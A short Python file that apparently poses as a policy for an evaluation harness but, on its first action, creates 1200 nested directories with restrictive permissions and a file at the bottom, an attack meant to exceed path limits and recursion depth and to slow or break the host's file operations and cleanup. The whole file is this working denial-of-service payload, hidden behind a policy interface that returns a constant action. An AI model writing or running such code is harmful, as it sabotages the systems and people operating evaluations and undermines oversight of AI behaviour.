"""Makes folders deeper than any path can name and than Python recurses, and a file in the deepest."""

import os


def attack():
    # Every call on a path in them costs the kernel a walk over all folders above: once is enough.
    for _ in range(1200):
        os.mkdir("deep", 0o300)
        os.chdir("deep")
    with open("f", "w") as file:
        file.write("x")


def make_policy(context):
    return Hostile()


class Hostile:
    begun = False

    def act(self, observation):
        if not self.begun:
            self.begun = True
            attack()
        return 1
